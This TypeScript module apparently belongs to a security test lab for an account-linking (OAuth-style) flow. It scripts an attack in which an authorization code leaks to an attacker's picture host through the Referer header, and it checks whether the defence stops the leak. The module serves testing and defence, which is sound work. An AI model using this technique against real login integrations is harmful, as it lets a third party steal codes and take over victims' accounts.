/**
 * The address of the redirect endpoint, with the code in it, is told to a third party.
 *
 * @module
 */
import { sendHttp } from '../../flow/index.ts'
import type { AttackPlan } from './attack.ts'
import { picturesOf } from './browser-rules.ts'

/** Path of the picture on the attacker's host. */
const PICTURE = '/pixel.gif'

/** Milliseconds that the picture may take. */
const TIMEOUT_MS = 4_500

/** The attack. */
export const referer: AttackPlan = {
  id: 'referer',
  defence: 'alexa.callbackPicture',
  stopsAt: 'link.result',
  steps: [
    'The redirect endpoint answers with a page that loads a picture from a third party.',
    'The victim links an account, and the browser comes back to that page.',
    'The browser loads the picture, and tells its host where the page was.',
  ],
  async play(stage, defended) {
    const { lab } = stage
    const site = await stage.site()
    if (!defended) lab.alexa.configure({ callbackPicture: site.url + PICTURE })
    const victims = stage.browser()
    const link = await stage.startLink(victims)
    site.routes.set(PICTURE, {
      id: 'attack.asset',
      flowId: link.flowId,
      answer: (ctx) => {
        ctx.type = 'image/gif'
        ctx.body = Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'base64')
      },
    })
    const callback = await stage.allow(victims, link)
    const arrivedAt = await victims.open(callback.href)
    for (const { url, referer } of picturesOf(arrivedAt)) {
      const headers = referer === undefined ? {} : { Referer: referer }
      const startDeadline = lab.flow.gate?.startDeadline
      await sendHttp({ url, method: 'GET', headers, timeoutMs: TIMEOUT_MS, startDeadline })
    }

    const code = callback.searchParams.get('code') ?? ''
    const told = site.arrivals(PICTURE).map(({ headers }) => headers.referer ?? '')
    return told.some((address) => new URL(address).searchParams.get('code') === code)
      ? stage.succeeds('The picture’s host was told the code in the Referer header.')
      : stage.stops(
          'link.result',
          'The browser is sent on at once, to a page that loads nothing from elsewhere.',
        )
  },
}
